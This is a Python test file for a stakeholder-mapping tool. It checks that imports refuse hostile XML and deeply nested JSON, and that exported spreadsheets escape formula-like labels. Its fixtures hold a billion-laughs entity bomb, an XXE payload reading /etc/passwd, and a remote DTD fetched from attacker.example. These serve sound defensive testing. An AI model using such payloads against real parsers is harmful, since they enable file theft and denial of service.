"""Hostile input is refused with an issue, and hostile labels never become spreadsheet formulas."""

from __future__ import annotations

import io
import itertools

import pytest
from openpyxl import load_workbook

from mapping.analysis.critical import critical_brokers
from mapping.analysis.paths import PathQuery, strongest_paths
from mapping.analysis.ranking import RankingQuery, rank_actors
from mapping.export import workbook_bytes
from mapping.formats import analysis_workbook_bytes, import_file
from mapping.formats.kumu import kumu_workbook_bytes
from mapping.model import StakeholderMap
from mapping.read import InputFile
from tests.formats_maps import HOSTILE_ACTORS, HOSTILE_NAMES, HOSTILE_RELATIONSHIPS, map_from_csv


def billion_laughs() -> bytes:
    """Nine levels of ten: a billion "lol"s, about 3 GB, if a parser ever expanded them."""
    names = ["lol", *(f"lol{n}" for n in range(1, 10))]
    entities = "".join(f' <!ENTITY {name} "{f"&{below};" * 10}">\n' for below, name in itertools.pairwise(names))
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE gexf [\n <!ENTITY lol "lol">\n' + entities + "]>\n"
        '<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2"><graph><nodes>'
        '<node id="a" label="&lol9;"/></nodes></graph></gexf>'
    ).encode()


BILLION_LAUGHS = billion_laughs()
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key id="k" for="node" attr.name="kind"/>
  <graph edgedefault="directed"><node id="a"><data key="k">&secret;</data></node></graph>
</graphml>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gexf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<gexf version="1.2"><graph/></gexf>"""


def test_the_billion_laughs_really_nests_entities() -> None:
    assert b"<!ENTITY lol9" in BILLION_LAUGHS and b"&lol8;&lol8;" in BILLION_LAUGHS


@pytest.mark.parametrize(
    ("name", "data"),
    [("bomb.gexf", BILLION_LAUGHS), ("xxe.graphml", EXTERNAL_ENTITY), ("remote.gexf", PARAMETER_ENTITY)],
)
def test_xml_with_entities_is_refused_before_expanding_anything(name: str, data: bytes) -> None:
    result = import_file(InputFile(name, data))
    assert [(i.file, i.code) for i in result.issues] == [(name, "unsafe-xml")]
    assert "refused" in result.issues[0].message
    assert result.map is None


@pytest.mark.parametrize("name", ["broken.gexf", "broken.graphml"])
def test_malformed_xml_names_the_line(name: str) -> None:
    result = import_file(InputFile(name, b"<?xml version='1.0'?>\n<gexf>\n<graph>\n</gexf>"))
    [issue] = result.issues
    assert (issue.row, issue.code) == (4, "unreadable-file")


def test_a_gexf_that_is_really_graphml_is_named() -> None:
    result = import_file(InputFile("wrong.gexf", b"<graphml/>"))
    assert "root element is <graphml>" in result.issues[0].message


def test_malformed_node_link_json_names_the_line() -> None:
    result = import_file(InputFile("graph.json", b'{"nodes": [\n {"id": "a"},\n {"id": }\n]}'))
    assert [(i.row, i.code) for i in result.issues] == [(3, "unreadable-record")]


def test_deeply_nested_node_link_json_is_refused() -> None:
    result = import_file(InputFile("graph.json", b'{"nodes": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"), "json")
    assert [i.code for i in result.issues] == ["nested-too-deeply"]


# --- no formula in any workbook we write -----------------------------------------------


@pytest.fixture(scope="module")
def hostile_map() -> StakeholderMap:
    return map_from_csv(HOSTILE_ACTORS, HOSTILE_RELATIONSHIPS)


def analysis_workbook(smap: StakeholderMap) -> bytes:
    first, last = smap.actors[0].id, smap.actors[-1].id
    ranking = rank_actors(smap, RankingQuery(us=(first,), targets=(last,)))
    paths = strongest_paths(smap, first, last, PathQuery(k=3))
    return analysis_workbook_bytes(smap, ranking, paths, critical_brokers(smap, first, last))


WORKBOOKS = {"ours": workbook_bytes, "kumu": kumu_workbook_bytes, "analysis": analysis_workbook}


@pytest.mark.parametrize("kind", WORKBOOKS)
def test_hostile_labels_are_text_not_formulas(hostile_map: StakeholderMap, kind: str) -> None:
    book = load_workbook(io.BytesIO(WORKBOOKS[kind](hostile_map)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + HOSTILE_NAMES[0] in texts or any(t.startswith("'=HYPERLINK") for t in texts)
    assert not any(t.startswith(("=", "@")) for t in texts)


def test_analysis_workbook_has_the_three_answers_and_the_method(kenya_map: StakeholderMap) -> None:
    ranking = rank_actors(kenya_map, RankingQuery(us=("kepsa",)))
    target = kenya_map.resolve("Orange Democratic Movement (ODM)").id
    paths = strongest_paths(kenya_map, "kepsa", target, PathQuery(k=3))
    critical = critical_brokers(kenya_map, "kepsa", target)
    book = load_workbook(io.BytesIO(analysis_workbook_bytes(kenya_map, ranking, paths, critical)))
    assert book.sheetnames == ["Ranking", "Strongest paths", "Critical brokers", "Method"]
    ranking_rows = list(book["Ranking"].values)
    assert ranking_rows[0][:5] == ("rank", "id", "name", "kind", "score")
    assert len(ranking_rows) - 1 == len(ranking.actors)
    assert len(list(book["Strongest paths"].values)) - 1 == len(paths)
    method = list(book["Method"].values)
    weights = {item: value for section, item, value in method if section == "weight"}
    assert weights == pytest.approx(ranking.weights)
    formulas = " ".join(str(value) for section, _, value in method if section == "formula")
    assert "Engagement score" in formulas and "-ln(strength)" in formulas and "minimum node cut" in formulas
